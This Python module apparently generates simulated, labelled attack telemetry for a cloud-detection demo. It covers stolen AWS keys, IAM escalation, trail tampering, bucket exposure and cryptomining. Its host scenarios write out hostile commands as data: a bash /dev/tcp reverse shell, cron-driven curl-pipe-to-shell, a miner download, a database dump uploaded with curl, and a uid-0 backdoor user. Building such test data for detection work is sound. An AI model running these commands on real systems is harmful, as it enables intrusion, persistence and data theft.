"""Attack scenarios laid on the simulated estate, modelled on public techniques (MITRE ATT&CK, Stratus
Red Team's AWS techniques, GuardDuty finding types). Each event's scenario is recorded in `Estate.labels`
(event id -> scenario), never inside the record itself.

Cloud: stolen developer key used from abroad (T1078.004), IAM privilege escalation (T1098), trail and key
tampering (T1562.008, T1485), instance-credential exfiltration + S3 theft (T1552.005, T1530), bucket
exposure after a hijacked console login (T1537), persistence through a new user and keys (T1136.003),
mining in an unused region (T1496). Hosts: reverse shell from the web app (T1059.004), cron persistence
(T1053.003), a miner (T1496), SSH hop from the bastion to the database and a dump sent out (T1021.004,
T1048), privilege escalation through pkexec (T1068).
"""

from __future__ import annotations

import random
from typing import TYPE_CHECKING, Any

from cloudwarden.demo.estate import (
    BOTO_UA,
    CLI_UA,
    CONSOLE_UA,
    HOSTS,
    PROD,
    CloudTrailWriter,
    HostWriter,
)

if TYPE_CHECKING:
    from cloudwarden.demo.estate import Estate


def _rec_ids(out: list[dict[str, Any]], mark: int) -> list[str]:
    return [r["eventID"] for r in out[mark:]]


def add_attacks(estate: Estate, rng: random.Random, attack_day: int) -> None:
    """Append the attack events (days `attack_day`..end) and their labels to the estate."""
    base = estate.start.timestamp() + attack_day * 86400
    span = max(1, estate.days - attack_day)
    w = CloudTrailWriter(rng)
    h = HostWriter(rng)
    h.seq = {host: 10_000_000 for host in HOSTS}  # distinct sequence numbers from the benign stream

    def scenario(name: str, kind: str, t: float, techniques: list[str], description: str, ids: list[str]) -> None:
        estate.scenarios.append({"name": name, "kind": kind, "start": t, "techniques": techniques,
                                 "description": description, "events": len(ids)})
        for eid in ids:
            estate.labels[eid] = name

    def day_at(k: int, hour: float) -> float:
        return base + (k % span) * 86400 + hour * 3600

    # 1. a developer's long-term key used from a VPS abroad: discovery, then data access
    t = day_at(0, 3.2)  # 03:12 UTC = 22:12 in bob's timezone
    mark = len(w.out)
    ip = "5.188.10.77"
    ident = w.identity_user("bob", PROD, "AKIABOBSTOLENKEY0001")
    ua = BOTO_UA.format(v=12)
    steps = [("sts.amazonaws.com", "GetCallerIdentity"), ("s3.amazonaws.com", "ListBuckets"),
             ("iam.amazonaws.com", "ListUsers"), ("iam.amazonaws.com", "ListAttachedUserPolicies"),
             ("iam.amazonaws.com", "GetAccountAuthorizationDetails"), ("ec2.amazonaws.com", "DescribeInstances"),
             ("secretsmanager.amazonaws.com", "ListSecrets"), ("secretsmanager.amazonaws.com", "GetSecretValue")]
    for i, (svc, api) in enumerate(steps):
        err = "AccessDenied" if api in ("GetAccountAuthorizationDetails", "GetSecretValue") else ""
        w.event(t + i * 7, ident, svc, api, "us-east-1", ip, ua, PROD, error=err)
    for i in range(40):
        key = f"exports/customers-{i:03d}.csv"
        w.event(t + 120 + i * 2, ident, "s3.amazonaws.com", "GetObject", "us-east-1", ip, ua, PROD,
                params={"bucketName": "acme-reports", "key": key},
                resources=[{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::acme-reports/{key}"}])
    scenario("stolen-access-key", "cloud", t, ["T1078.004", "T1087.004", "T1530"],
             "bob's access key used from a VPS in Russia at night: discovery, then bulk reads", _rec_ids(w.out, mark))

    # 2. privilege escalation through IAM by a developer's own key (insider or hijacked laptop)
    t = day_at(1, 19.5)
    mark = len(w.out)
    ident = w.identity_user("carol", PROD, "AKIACAROLKEY00000001")
    ip = "71.202.88.17"  # carol's usual home address: nothing odd about the network
    ua = CLI_UA.format(v=20, cmd="iam")
    for i, api in enumerate(["ListPolicies", "GetPolicy", "ListRoles", "ListUsers", "ListGroups", "GetUser",
                             "ListAttachedUserPolicies", "ListUserPolicies", "ListEntitiesForPolicy", "GetRole",
                             "ListRolePolicies", "ListAttachedRolePolicies", "GetPolicyVersion"]):
        w.event(t + i * 4, ident, "iam.amazonaws.com", api, "us-east-1", ip, ua, PROD)
    for i, api in enumerate(["CreatePolicyVersion", "AttachUserPolicy", "PutUserPolicy", "AddUserToGroup", "UpdateAssumeRolePolicy"]):
        w.event(t + 80 + i * 6, ident, "iam.amazonaws.com", api, "us-east-1", ip, ua, PROD, error="AccessDenied")
    w.event(t + 130, ident, "iam.amazonaws.com", "CreatePolicyVersion", "us-east-1", ip, ua, PROD,
            params={"policyArn": f"arn:aws:iam::{PROD}:policy/dev-lambda-deploy", "setAsDefault": True})
    w.event(t + 150, ident, "iam.amazonaws.com", "AttachUserPolicy", "us-east-1", ip, ua, PROD,
            params={"userName": "carol", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
    w.event(t + 170, ident, "iam.amazonaws.com", "CreateAccessKey", "us-east-1", ip, ua, PROD, params={"userName": "carol"})
    scenario("iam-privilege-escalation", "cloud", t, ["T1098", "T1078.004"],
             "carol probes IAM, is denied, then rewrites a policy version and attaches AdministratorAccess to herself",
             _rec_ids(w.out, mark))

    # 3. defence evasion with the CI role's stolen session: logging and key destruction
    t = day_at(2, 2.0)
    mark = len(w.out)
    ip = "167.99.45.120"
    ident = w.identity_role("deploy-ci", "GitHubActions-5ee7c0de", PROD, "ASIAATTACKERCISESS01")
    ua = "aws-cli/2.13.0 Python/3.11.4 Linux/6.1.0-kali7-amd64 exe/x86_64.kali.2023 prompt/off"
    for i, (svc, api) in enumerate([("cloudtrail.amazonaws.com", "DescribeTrails"), ("cloudtrail.amazonaws.com", "GetTrailStatus"),
                                    ("cloudtrail.amazonaws.com", "StopLogging"), ("cloudtrail.amazonaws.com", "PutEventSelectors"),
                                    ("guardduty.amazonaws.com", "ListDetectors"), ("guardduty.amazonaws.com", "DeleteDetector"),
                                    ("kms.amazonaws.com", "ListKeys"), ("kms.amazonaws.com", "ScheduleKeyDeletion")]):
        w.event(t + i * 9, ident, svc, api, "us-east-1", ip, ua, PROD,
                params={"name": "org-trail"} if svc.startswith("cloudtrail") else None)
    scenario("trail-tampering", "cloud", t, ["T1562.008", "T1562.001", "T1485"],
             "deploy-ci's session, from a DigitalOcean droplet with a Kali CLI, stops the trail, deletes GuardDuty, schedules key deletion",
             _rec_ids(w.out, mark))

    # 4. instance credentials lifted from a web server (SSRF to IMDS) and used from Tor to pull S3 data
    t = day_at(3, 9.0)
    mark = len(w.out)
    instance = "i-0badc0ffee0000042"
    ident = w.identity_role("web-instance-role", instance, PROD, "ASIASTOLENINSTANCE01")
    # the real instance used the key first, from its own address
    w.event(t - 600, ident, "s3.amazonaws.com", "GetObject", "us-east-1", "54.86.31.13", BOTO_UA.format(v=33), PROD,
            params={"bucketName": "acme-prod-assets", "key": "static/app.js"},
            resources=[{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::acme-prod-assets/static/app.js"}])
    ip = "185.220.101.5"
    ua = BOTO_UA.format(v=2)
    w.event(t, ident, "sts.amazonaws.com", "GetCallerIdentity", "us-east-1", ip, ua, PROD)
    w.event(t + 5, ident, "s3.amazonaws.com", "ListBuckets", "us-east-1", ip, ua, PROD)
    for i in range(60):
        key = f"lake/customers/part-{i:04d}.parquet"
        w.event(t + 30 + i, ident, "s3.amazonaws.com", "GetObject", "us-east-1", ip, ua, PROD,
                params={"bucketName": "acme-data-lake", "key": key},
                resources=[{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::acme-data-lake/{key}"}])
    ids = _rec_ids(w.out, mark)[1:]  # the instance's own first call is benign
    scenario("instance-credential-exfiltration", "cloud", t, ["T1552.005", "T1530"],
             "web-instance-role's temporary credentials used from a Tor exit to read the data lake", ids)

    # 5. hijacked admin console session: sign-in from Romania minutes after heidi's own, then exposure of a bucket
    t = day_at(4, 17.0)
    mark = len(w.out)
    w.event(t - 1200, w.identity_user("heidi", PROD, ""), "signin.amazonaws.com", "ConsoleLogin", "us-east-1",
            "98.207.2.200", CONSOLE_UA, PROD, response={"ConsoleLogin": "Success"}, event_type="AwsConsoleSignIn",
            extra={"additionalEventData": {"MFAUsed": "Yes"}})
    benign_login = w.out[-1]["eventID"]
    ip = "193.32.162.40"
    w.event(t, w.identity_user("heidi", PROD, ""), "signin.amazonaws.com", "ConsoleLogin", "us-east-1", ip, CONSOLE_UA, PROD,
            response={"ConsoleLogin": "Success"}, event_type="AwsConsoleSignIn", extra={"additionalEventData": {"MFAUsed": "Yes"}})
    ident = w.identity_user("heidi", PROD, "ASIAHEIDIHIJACKED001", console=True, mfa=True)
    for i, (svc, api) in enumerate([("s3.amazonaws.com", "ListBuckets"), ("s3.amazonaws.com", "GetBucketPolicy"),
                                    ("s3.amazonaws.com", "DeleteBucketPublicAccessBlock"), ("s3.amazonaws.com", "PutBucketPolicy"),
                                    ("s3.amazonaws.com", "PutBucketReplication")]):
        w.event(t + 60 + i * 20, ident, svc, api, "us-east-1", ip, CONSOLE_UA, PROD,
                params={"bucketName": "acme-data-lake"},
                resources=[{"type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::acme-data-lake"}])
    ids = [i for i in _rec_ids(w.out, mark) if i != benign_login]
    scenario("console-hijack-bucket-exposure", "cloud", t, ["T1078.004", "T1537"],
             "second console sign-in for heidi from Romania 20 minutes after her own; the bucket is made public and replicated out",
             ids)

    # 6. persistence: an admin's key creates a user with keys and a console password, used the next hour
    t = day_at(5, 4.0)
    mark = len(w.out)
    ip = "51.15.20.80"
    ident = w.identity_user("grace", PROD, "AKIAGRACESTOLEN00001")
    ua = CLI_UA.format(v=3, cmd="iam")
    for i, (api, params) in enumerate([("CreateUser", {"userName": "svc-backup2"}),
                                       ("AttachUserPolicy", {"userName": "svc-backup2", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
                                       ("CreateAccessKey", {"userName": "svc-backup2"}),
                                       ("CreateLoginProfile", {"userName": "svc-backup2"}),
                                       ("CreateAccessKey", {"userName": "grace"})]):
        w.event(t + i * 15, ident, "iam.amazonaws.com", api, "us-east-1", ip, ua, PROD, params=params)
    new_ident = w.identity_user("svc-backup2", PROD, "AKIANEWBACKDOORUSR01")
    for i, (svc, api) in enumerate([("sts.amazonaws.com", "GetCallerIdentity"), ("ec2.amazonaws.com", "DescribeRegions"),
                                    ("s3.amazonaws.com", "ListBuckets")]):
        w.event(t + 3600 + i * 10, new_ident, svc, api, "us-east-1", ip, ua, PROD)
    scenario("persistence-new-user", "cloud", t, ["T1136.003", "T1098.001"],
             "grace's key, from a Scaleway address, creates an admin user with keys and a password", _rec_ids(w.out, mark))

    # 7. mining in a region the company never uses
    t = day_at(6, 22.0)
    mark = len(w.out)
    ip = "64.227.12.9"
    ident = w.identity_user("frank", PROD, "AKIAFRANKSTOLEN00001")
    ua = BOTO_UA.format(v=7)
    for i, (svc, api) in enumerate([("ec2.amazonaws.com", "DescribeRegions"), ("ec2.amazonaws.com", "DescribeImages"),
                                    ("ec2.amazonaws.com", "DescribeInstanceTypeOfferings"), ("ec2.amazonaws.com", "CreateKeyPair"),
                                    ("ec2.amazonaws.com", "CreateSecurityGroup"), ("ec2.amazonaws.com", "AuthorizeSecurityGroupIngress"),
                                    ("ec2.amazonaws.com", "RunInstances"), ("ec2.amazonaws.com", "RunInstances")]):
        w.event(t + i * 12, ident, svc, api, "ap-southeast-1", ip, ua, PROD)
    scenario("cryptomining-new-region", "cloud", t, ["T1496", "T1535"],
             "frank's key launches GPU instances in ap-southeast-1, a region the company never used", _rec_ids(w.out, mark))

    estate.cloudtrail_events.extend(w.out)

    # ------------------------------------------------------------------------------------------- hosts
    # A. reverse shell out of the web application on web-3
    t = day_at(0, 15.3)
    mark = len(h.out)
    h.exec("web-3", t, "/bin/sh", ["sh", "-c", "bash -i >& /dev/tcp/45.155.205.99/4444 0>&1"], "/usr/bin/python3.11", "www-data", 33)
    h.exec("web-3", t + 0.1, "/bin/bash", ["bash", "-i"], "/bin/sh", "www-data", 33, ancestors=["/bin/sh", "/usr/bin/python3.11"])
    h.connect("web-3", t + 0.2, "/bin/bash", "45.155.205.99", 4444, user="www-data", external=True)
    for cmd, exe in [(["id"], "/usr/bin/id"), (["uname", "-a"], "/usr/bin/uname"), (["cat", "/etc/passwd"], "/usr/bin/cat")]:
        t += 3
        h.exec("web-3", t, exe, cmd, "/bin/bash", "www-data", 33, ancestors=["/bin/bash", "/bin/sh", "/usr/bin/python3.11"])
    scenario("reverse-shell", "host", day_at(0, 15.3), ["T1059.004"],
             "the web app on web-3 spawns an interactive bash connected to 45.155.205.99:4444", [e.event_id for e in h.out[mark:]])

    # B. cron persistence on web-2
    t = day_at(1, 11.0)
    mark = len(h.out)
    h.exec("web-2", t, "/usr/bin/crontab", ["crontab", "/tmp/.c"], "/bin/bash", "www-data", 33, ancestors=["/bin/bash", "/usr/bin/python3.11"])
    h.ev("web-2", t + 1, "file", "write", path="/var/spool/cron/crontabs/www-data", exe="/usr/bin/crontab", user="www-data")
    for k in range(3):
        tt = t + 3600 * (k + 1) + 13 * 60
        h.exec("web-2", tt, "/bin/sh", ["/bin/sh", "-c", "curl -fsSL http://91.240.118.50/u.sh | sh"], "/usr/sbin/cron", "www-data", 33)
        h.exec("web-2", tt + 0.1, "/usr/bin/curl", ["curl", "-fsSL", "http://91.240.118.50/u.sh"], "/bin/sh", "www-data", 33,
               ancestors=["/bin/sh", "/usr/sbin/cron"])
        h.connect("web-2", tt + 0.2, "/usr/bin/curl", "91.240.118.50", 80, user="www-data", external=True)
    scenario("cron-persistence", "host", t, ["T1053.003"],
             "a crontab for www-data on web-2 fetches and runs a script every hour", [e.event_id for e in h.out[mark:]])

    # C. miner on the batch machine
    t = day_at(2, 13.0)
    mark = len(h.out)
    h.exec("batch-1", t, "/usr/bin/wget", ["wget", "-q", "-O", "/tmp/.x/kd", "http://141.98.11.20/kd"], "/bin/bash", "etl", 1500)
    h.connect("batch-1", t + 0.5, "/usr/bin/wget", "141.98.11.20", 80, user="etl", external=True)
    h.exec("batch-1", t + 10, "/tmp/.x/kd", ["/tmp/.x/kd", "-o", "pool.minexmr.example:3333", "--donate-level", "1"], "/bin/bash", "etl", 1500)
    for k in range(6):
        h.connect("batch-1", t + 20 + k * 600, "/tmp/.x/kd", "141.98.11.21", 3333, "pool.minexmr.example", "etl", True, 40_000)
    scenario("cryptominer", "host", t, ["T1496", "T1105"],
             "a miner downloaded into /tmp/.x on batch-1 talks to a pool on port 3333", [e.event_id for e in h.out[mark:]])

    # D. SSH hop from the bastion into the database by a developer account, dump sent out
    t = day_at(3, 22.5)
    mark = len(h.out)
    src = "86.153.12.40"
    h.accept("bastion-1", t - 1, "/usr/sbin/sshd", 22, src)
    h.login("bastion-1", t, "bob", src, 1003, 4242)
    h.exec("bastion-1", t + 1, "/bin/bash", ["-bash"], "/usr/sbin/sshd", "bob", 1003, 1003, 4242)
    h.exec("bastion-1", t + 5, "/usr/bin/ssh", ["ssh", "db-1"], "/bin/bash", "bob", 1003, 1003, 4242, ["/bin/bash", "/usr/sbin/sshd"])
    h.connect("bastion-1", t + 5, "/usr/bin/ssh", HOSTS["db-1"][1], 22, user="bob")
    h.login("db-1", t + 6, "bob", HOSTS["bastion-1"][1], 1003, 5151)
    h.exec("db-1", t + 7, "/bin/bash", ["-bash"], "/usr/sbin/sshd", "bob", 1003, 1003, 5151)
    h.exec("db-1", t + 20, "/usr/bin/pg_dump", ["pg_dump", "-Fc", "shop", "-f", "/tmp/s.dump"], "/bin/bash", "bob", 1003, 1003, 5151,
           ["/bin/bash", "/usr/sbin/sshd"])
    h.exec("db-1", t + 300, "/usr/bin/curl", ["curl", "-T", "/tmp/s.dump", "https://transfer.example.net/s.dump"], "/bin/bash",
           "bob", 1003, 1003, 5151, ["/bin/bash", "/usr/sbin/sshd"])
    h.connect("db-1", t + 301, "/usr/bin/curl", "62.210.33.4", 443, "transfer.example.net", "bob", True, 1_900_000_000)
    scenario("lateral-ssh-exfil", "host", t, ["T1021.004", "T1048.002"],
             "bob hops from the bastion to db-1 at night, dumps the database and uploads it", [e.event_id for e in h.out[mark:]])

    # E. local privilege escalation on web-4
    t = day_at(4, 10.0)
    mark = len(h.out)
    h.exec("web-4", t, "/usr/bin/pkexec", ["pkexec", "/bin/sh"], "/bin/sh", "www-data", 33, ancestors=["/bin/sh", "/usr/bin/python3.11"])
    h.ev("web-4", t + 0.1, "privilege", "setuid", user="www-data", uid=33, euid=0, target_user="root", exe="/usr/bin/pkexec",
         argv=["pkexec", "/bin/sh"])
    h.exec("web-4", t + 0.3, "/bin/sh", ["/bin/sh"], "/usr/bin/pkexec", "root", 0, ancestors=["/usr/bin/pkexec", "/bin/sh", "/usr/bin/python3.11"])
    h.exec("web-4", t + 5, "/usr/sbin/useradd", ["useradd", "-o", "-u", "0", "sysupd"], "/bin/sh", "root", 0,
           ancestors=["/bin/sh", "/usr/bin/pkexec"])
    scenario("privilege-escalation", "host", t, ["T1068", "T1136.001"],
             "www-data on web-4 becomes root through pkexec and adds a uid-0 user", [e.event_id for e in h.out[mark:]])

    estate.host_events.extend(h.out)
